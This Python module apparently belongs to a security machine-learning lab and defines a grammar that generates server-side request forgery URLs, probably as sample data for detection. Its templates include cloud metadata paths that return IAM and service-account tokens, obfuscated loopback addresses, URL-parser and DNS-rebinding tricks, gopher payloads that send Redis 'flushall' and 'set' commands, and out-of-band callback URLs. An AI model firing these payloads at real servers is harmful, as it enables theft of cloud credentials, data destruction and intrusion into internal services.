"""Server-side request forgery (CWE-918): inner addresses in many notations, cloud metadata, other schemes."""

from random import Random
from typing import Final

from secmlops.web_attacks.lab.grammar import Grammar, rules
from secmlops.web_attacks.lab.payloads.blocks import BLOCKS

_RULES: Final = rules(
    r"""
start
    «http»://«inner»«inner_port»«inner_path»
    «http»://«inner»«inner_port»«inner_path»
    «http»://«inner»«inner_port»«inner_path»
    «http»://«metadata»
    «http»://«metadata»
    «http»://«trick»«inner_port»«inner_path»
    «http»://«trick»«inner_port»«inner_path»
    «scheme»
    «scheme»
    «outband»
http:
    http http http http https HTTP hTTp http
inner:
    127.0.0.1 127.0.0.1 localhost localhost 0.0.0.0 [::1] [::] 127.1 127.0.1 0 «loopback» «loopback» «private_ip»
    «private_ip» «numeric» «numeric» [::ffff:127.0.0.1] [0:0:0:0:0:ffff:7f00:1] localhost.localdomain
    127.«octet».«octet».«octet» host.docker.internal kubernetes.default.svc «label».internal
    «label».svc.cluster.local «label»-db «label».local ①②⑦.⓪.⓪.① LOCALHOST localhost6 ip6-localhost 169.254.170.2
    consul.service.consul vault elasticsearch redis
inner_port
    «empty»
    «empty»
    :«service_port»
    :«service_port»
    :«service_port»
    :«int:1-65535»
service_port:
    22 25 80 443 2375 2379 3000 3306 4040 5000 5432 5601 5984 5985 6379 6443 7001 8000 8001 8080 8081 8086 8088 8443
    8500 8888 9000 9090 9200 9300 10250 10255 11211 15672 27017 28017 50070
inner_path
    «empty»
    /
    /admin
    /admin/delete?username=«label»
    /server-status
    /actuator/«actuator»
    /manager/html
    /_cat/indices
    /v1/agent/self
    /api/v1/namespaces/«label»/secrets
    /containers/json
    /latest/meta-data/
    /solr/admin/cores
    /console
    /jolokia/list
    /phpmyadmin/
    /«label»
    /«label»/«label»?«lower:3»=«n»
    /etc/passwd
    /debug/vars
    /metrics
    /.git/config
    /v2/keys/?recursive=true
    /pods
    /eureka/apps
    /wp-admin/
    /cgi-bin/«label»
    /?«lower:2»=«callback»
actuator:
    env heapdump health mappings gateway/routes jolokia
metadata
    169.254.169.254/latest/meta-data/«aws»
    169.254.169.254/latest/meta-data/«aws»
    169.254.169.254/latest/user-data
    169.254.169.254/latest/dynamic/instance-identity/document
    169.254.169.254/metadata/instance?api-version=20«int:17-24»-0«int:1-9»-01
    169.254.169.254/metadata/identity/oauth2/token?resource=https://«label».azure.com/
    metadata.google.internal/computeMetadata/v1/«gcp»
    metadata/computeMetadata/v1beta1/«gcp»
    100.100.100.200/latest/meta-data/«aws»
    192.0.0.192/latest/
    169.254.169.254/opc/v1/instance/
    169.254.169.254/openstack/latest/meta_data.json
    «meta_number»/latest/meta-data/«aws»
    169.254.170.2/v2/credentials/«hex:8»
    [fd00:ec2::254]/latest/meta-data/«aws»
    169.254.169.254.«rebind»/latest/meta-data/«aws»
aws:
    iam/security-credentials/ iam/security-credentials/«label» hostname local-ipv4 public-keys/ ami-id
    placement/region iam/info network/interfaces/macs/ instance-id reservation-id
gcp:
    instance/service-accounts/default/token project/project-id instance/attributes/kube-env instance/hostname
    instance/attributes/ssh-keys?alt=json ?recursive=true
meta_number:
    2852039166 0xa9fea9fe 0251.0376.0251.0376 0xa9.0xfe.0xa9.0xfe 169.254.43518 [::ffff:a9fe:a9fe] 0xA9.254.0251.254
rebind:
    nip.io xip.io sslip.io «label».«tld»
trick
    «domain»@«inner»
    «domain»:80@«inner»
    «domain»#@«inner»
    «inner»#«domain»
    «inner»?«domain»
    «inner»\@«domain»
    «domain»%40«inner»
    «label»:«alnum:5»@«inner»
    127.0.0.1.«rebind»
    «label».127.0.0.1.nip.io
    «private_ip».«rebind»
    «domain»%2523@«inner»
    «domain»;@«inner»
    localtest.me
    «label».localtest.me
    «inner»%00.«domain»
    «inner»%09
    «domain»&@«inner»
    spoofed.«label».«tld»
    make-«private_ip»-rebind-«ip»-rr.«label».«tld»
scheme
    file://«unix_file»
    file:///C:/windows/win.ini
    file://«inner»«unix_file»
    gopher://«inner»:«service_port»/_«gopher»
    gopher://«inner»:«service_port»/_«gopher»
    dict://«inner»:«service_port»/«dict»
    ftp://«inner»:21/«label»
    ftp://«label»@«callback_host»/
    ldap://«inner»:389/%0a«label»
    ldaps://«callback_host»/dc=«label»
    tftp://«ip»:69/«label»
    sftp://«callback_host»:22/
    jar:http://«inner»:«service_port»/«label».jar!/
    netdoc:«unix_file»
    url:http://«inner»/
    url:file://«unix_file»
    smb://«callback_host»/«label»
    telnet://«inner»:«service_port»
    ssh2.exec://«inner»/«label»
    php://filter/resource=http://«inner»/
    //«inner»«inner_port»«inner_path»
    \\«inner»\«label»
    http:«inner»«inner_path»
    http:///«inner»«inner_path»
    http:/\/\«inner»«inner_path»
gopher
    *1%0d%0a$8%0d%0aflushall%0d%0a
    *3%0d%0a$3%0d%0aset%0d%0a$1%0d%0a«int:1-9»%0d%0a$«int:1-64»%0d%0a«alnum:8»%0d%0a
    GET%20/«label»%20HTTP/1.1%0d%0aHost:%20«inner»%0d%0a%0d%0a
    POST%20/«label»%20HTTP/1.0%0d%0aContent-Length:%20«int:1-99»%0d%0a%0d%0a«lower:3»=«alnum:5»
    HELO%20«label»%0d%0aMAIL%20FROM:<«label»@«domain»>%0d%0a
    %a3%00%00%01%85%a6%ff%01%00%00%00%01
    stats%0d%0aquit%0d%0a
dict:
    info config:set:dir:/var/www flushall stats «label» slaveof:«ip»:«port» get:«label»
outband
    http://«callback»/«label»?«lower:2»=ssrf
    http://«hex:20».«label».«tld»/
    http://«callback»/redirect?to=http://«inner»«inner_path»
    https://«label».«tld»/302?url=«http»://«inner»/
    http://«ip»:«port»/«alnum:8»
    http://«callback»/r.php?u=http%3A%2F%2F169.254.169.254%2Flatest%2F
    http://ssrf-«hex:8».«label».«tld»/
"""
)


def _loopback(rng: Random) -> str:
    parts = [127, rng.choice([0, rng.randrange(256)]), rng.choice([0, rng.randrange(256)]), rng.randint(1, 254)]
    style = rng.random()
    if style < 0.3:
        return ".".join(f"0{part:o}" for part in parts)
    if style < 0.6:
        return ".".join(hex(part) for part in parts)
    return ".".join(map(str, parts)) if style < 0.8 else f"{parts[0]}.{parts[3]}"


def _numeric(rng: Random) -> str:
    network = rng.choice([0x7F000000, 0x0A000000, 0xC0A80000, 0xAC100000])
    address = network | rng.randrange(1, 65536)
    return rng.choice([str(address), hex(address), f"0{address:o}"])


_GRAMMAR: Final = Grammar({**BLOCKS, **_RULES, "loopback": _loopback, "numeric": _numeric})


def payload(rng: Random) -> str:
    """One server-side request forgery payload: a URL that no visitor would give."""
    return _GRAMMAR.generate(rng)
